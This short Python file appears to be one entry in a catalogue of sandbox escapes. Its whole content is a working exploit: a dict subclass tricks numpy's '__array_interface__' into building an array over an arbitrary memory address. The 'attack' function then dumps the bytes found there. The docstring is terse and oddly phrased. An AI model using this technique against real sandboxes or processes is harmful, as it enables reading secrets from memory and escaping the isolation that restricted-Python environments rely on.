"""Class: class machinery. Source: own find. Escape: memory outside is read. A special method may be what a class in C says of
itself under that name; `__getattr__` as a dict's item is another's, and answers numpy past every look at names."""

import numpy as np


class D(dict):
    __getattr__ = dict.__getitem__

    def __missing__(self, key):
        raise AttributeError(key)


def attack(model, tokenizer, address):
    interface = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    return np.array(D({"__array_interface__": interface})).tobytes()
